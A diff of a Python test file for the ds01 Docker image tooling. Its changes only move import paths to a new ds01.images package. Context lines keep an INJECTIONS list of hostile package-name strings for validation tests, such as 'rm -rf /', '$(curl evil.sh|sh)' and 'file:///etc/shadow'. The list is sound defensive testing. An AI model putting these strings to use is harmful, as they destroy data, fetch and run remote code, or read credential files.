@@ -4,9 +4,9 @@ import json
 
 import pytest
 
-from ds01 import dockerfile as D
-from ds01 import packages as P
 from ds01.errors import UsageError
+from ds01.images import dockerfile as D
+from ds01.images import packages as P
 
 INJECTIONS = ["numpy; rm -rf /", "numpy`id`", "$(curl evil.sh|sh)", "numpy\nRUN rm -rf /", "-e git+ssh://x",
               "--index-url=http://evil", "numpy && id", "torch @ file:///etc/shadow", "numpy\\"]
@@ -134,7 +134,7 @@ def test_a_broken_block_is_reported_with_file_and_line():
 
 
 def test_pytorch_cpu_installs_cpu_wheels_in_the_framework_phase():
-    from ds01.image_plan import CPU_WHEELS, Answers, phases_for
+    from ds01.images.plan import CPU_WHEELS, Answers, phases_for
 
     phases, use_case = phases_for(Answers(framework="pytorch-cpu", jupyter=False, packages=["torch rich"]),
                                   "pytorch-cpu", warn=lambda m: None)
